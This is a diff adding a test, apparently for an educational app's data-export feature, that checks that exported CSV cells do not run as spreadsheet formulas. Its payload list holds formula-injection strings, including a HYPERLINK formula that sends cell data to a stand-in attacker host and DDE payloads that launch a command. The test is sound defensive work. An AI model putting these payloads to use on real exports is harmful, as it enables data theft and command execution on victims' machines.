@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import zipfile
 
 import httpx
 
+from ainative.csv_cells import unescape
+from tests.spreadsheet import formula_cells
 from tests.stack import Stack
 from tests.support.api import wait_answer
 from tests.support.eventually import eventually
@@ -93,3 +96,30 @@ def test_the_deletion_is_logged_without_content(api: httpx.Client, make_user, st
     log = log_file.read_text(errors="replace")
     assert line in log
     assert secret not in log
+
+
+FORMULA_PROMPTS = (
+    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "＝1+1",  # full-width equals sign
+    "'=1+1",  # a genuine leading apostrophe before a formula
+)
+
+
+def test_attack_zip_export_cells_run_no_formula_in_a_spreadsheet(
+    api: httpx.Client, make_user
+) -> None:
+    """Questions that are spreadsheet formulas, downloaded in the student's own zip."""
+    student = make_user()
+    for prompt in FORMULA_PROMPTS:
+        _answered(api, student.headers, prompt)
+    r = api.get("/api/v1/me/data", headers=student.headers, params={"format": "zip"})
+    assert r.status_code == 200
+    archive = zipfile.ZipFile(io.BytesIO(r.content))
+    for name in archive.namelist():  # as a spreadsheet opens them
+        assert formula_cells(archive.read(name).decode("utf-8")) == [], name
+    rows = csv.DictReader(io.StringIO(archive.read("interactions.csv").decode(), newline=""))
+    prompts = [unescape(row["prompt"]) for row in rows]  # the documented rule recovers them
+    assert sorted(prompts) == sorted(FORMULA_PROMPTS)
